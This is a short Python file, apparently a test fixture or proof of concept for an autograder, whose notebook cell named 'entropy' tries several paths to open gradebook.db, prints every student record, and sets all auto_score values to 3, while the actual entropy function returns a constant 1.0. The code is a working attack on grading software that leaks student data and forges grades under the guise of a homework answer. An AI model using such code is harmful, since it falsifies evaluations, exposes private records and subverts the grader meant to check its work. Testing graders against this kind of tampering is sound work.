"""Give everyone full marks in the gradebook, by SQL."""

CELLS = {
    "entropy": r"""
import sqlite3

for folder in ('@COURSE@/classroom', '/course/classroom', '.', '../..'):
    place = folder + '/gradebook.db'
    try:
        base = sqlite3.connect(place)
        print(base.execute('select * from student').fetchall())
        base.execute('update grade set auto_score = 3')
        base.commit()
    except Exception as error:
        print(type(error).__name__)


def entropy(p):
    return p.sum(-1) * 0 + 1.0
""".lstrip()
}
